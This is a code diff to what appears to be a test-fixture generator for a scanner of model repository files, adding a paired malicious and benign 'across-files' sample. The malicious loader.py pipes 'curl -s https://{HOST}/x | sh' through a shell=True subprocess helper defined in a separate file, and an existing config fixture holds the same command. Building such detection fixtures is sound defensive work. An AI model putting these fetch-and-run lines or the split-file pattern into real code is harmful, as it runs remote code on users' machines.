@@ -343,6 +343,15 @@ def _programs() -> Iterator[tuple[str, object]]:
     yield "text/config.json", {"model_type": "llama", "note": f"curl -s https://{HOST}/x | sh"}
 
 
+RUNS_COMMAND = """\
+import subprocess
+
+
+def run(command):
+    return subprocess.check_output(command, shell=True)
+"""
+
+
 def _whole() -> Iterator[tuple[str, object]]:
     yield "local.twin/config.json", _auto("modeling_plain.PlainModel", "configuration_plain.PlainConfig")
     yield "local.twin/modeling_plain.py", MODEL
@@ -364,3 +373,7 @@ def _whole() -> Iterator[tuple[str, object]]:
     yield "hub.twin/hubconf.py", HUBCONF
     yield "script/rows.py", SCRIPT
     yield "generates.twin/custom_generate/generate.py", GENERATE
+    yield "across-files/loader.py", f'from tools import run\n\nrun("curl -s https://{HOST}/x | sh")\n'
+    yield "across-files/tools.py", RUNS_COMMAND
+    yield "across-files.twin/loader.py", 'from tools import run\n\nrun("nvidia-smi -L")\n'
+    yield "across-files.twin/tools.py", RUNS_COMMAND
